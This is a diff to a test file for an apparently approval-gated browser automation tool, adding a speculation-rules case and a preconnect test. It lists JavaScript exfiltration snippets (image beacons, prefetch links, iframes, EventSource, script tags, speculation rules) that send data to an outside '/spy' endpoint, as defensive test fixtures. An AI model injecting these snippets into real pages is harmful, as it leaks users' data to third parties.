@@ -37,6 +37,7 @@ const WAYS: Readonly<Record<string, string>> = {
   'hidden picture': `new Image().src = to + '/' + btoa(data) + '.gif'`,
   style: `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = to + '/spy?' + data; document.head.append(l)`,
   prefetch: `const l = document.createElement('link'); l.rel = 'prefetch'; l.href = to + '/spy?' + data; document.head.append(l)`,
+  'speculation rules': `const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [to + '/spy?' + data] }], prerender: [{ source: 'list', urls: [location.origin + '/ahead?' + data] }] }); document.head.append(s)`,
   frame: `const f = document.createElement('iframe'); f.src = to + '/spy?' + data; document.body.append(f)`,
   events: `new EventSource(to + '/spy?' + data)`,
   script: `const s = document.createElement('script'); s.src = to + '/spy/' + data; document.head.append(s)`,
@@ -59,6 +60,15 @@ describe('before the approval', () => {
     await new Promise((resolve) => setTimeout(resolve, 500));
     expect(sites.leaked()).toEqual([]);
     expect(sites.sent()).toEqual([]);
+  });
+
+  it('no connection is opened because a page hints at one', async () => {
+    const hint = `const l = document.createElement('link'); l.rel = 'preconnect'; l.href = to; document.head.append(l)`;
+    const url = sites.page('/hints', spying(hint));
+    sites.connections.length = 0;
+    await apply(browser.host, { url, hooks: { review: async () => ({ decision: 'stop' }) } });
+    await new Promise((resolve) => setTimeout(resolve, 500));
+    expect(sites.connections).not.toContain('other');
   });
 
   it('a captcha frame opens no way out', async () => {
